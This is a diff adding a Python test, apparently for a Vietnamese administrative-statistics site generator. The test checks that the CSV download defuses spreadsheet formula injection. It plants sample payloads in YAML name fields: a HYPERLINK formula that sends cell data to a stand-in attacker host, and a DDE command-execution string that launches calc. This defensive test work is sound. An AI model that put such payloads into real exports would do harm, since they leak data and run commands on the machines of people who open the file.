@@ -255,3 +255,32 @@ def test_texts_of_a_file_and_of_a_build_share_a_budget(monkeypatch):
             with render_budget.file_budget():  # a new file each time: only the build's budget runs out
                 markdown_render.render_markdown(text + str(index))
     render_budget.start_build()
+
+
+# -- 4. no spreadsheet formulas in the statistics download ----------------------------------------------------
+
+STATISTICS = ("ma_thu_tuc,ky,den_ngay,tiep_nhan,truc_tuyen,dung_han,tre_han,dang_giai_quyet,tra_lai\n"
+              "1.001193,2026-01,2026-03-31,10,4,8,1,0,1\n1.004194,2026-01,2026-03-31,5,5,5,0,0,0\n")
+
+
+def test_statistics_download_neutralises_formulas(minimal_project: Project):
+    import csv
+    import io
+
+    project = minimal_project
+    (project.content / "thong-ke.csv").write_text(STATISTICS, "utf-8")
+    apply_edits(project.content, [
+        {"file": "fields.yml", "old": "name: Hộ tịch", "new": "name: '=HYPERLINK(\"https://ke-gian.example/?\"&A1,\"Hộ tịch\")'"},
+        {"file": "fields.yml", "old": "name: Cư trú", "new": "name: '@SUM(1+1)*cmd|'' /C calc''!A0'"},
+        {"file": "agencies.yml", "old": "name: Ủy ban nhân dân cấp xã", "new": "name: '+Ủy ban nhân dân cấp xã'"},
+        {"file": "agencies.yml", "old": "name: Công an cấp xã", "new": "name: '-2+3 Công an cấp xã'"},
+    ])
+    result = project.build()
+    assert result.returncode == 0, result.stderr
+    (download,) = (project.site / "thong-ke").glob("*.csv")
+    rows = list(csv.reader(io.StringIO(download.read_bytes().decode("utf-8-sig"))))
+    texts = [cell for row in rows for cell in row if cell and not cell.replace(",", "").isdigit()]
+    assert any("HYPERLINK" in cell for cell in texts) and any("Công an" in cell for cell in texts), rows
+    for cell in texts:
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    assert "'=HYPERLINK(" in download.read_text("utf-8-sig")
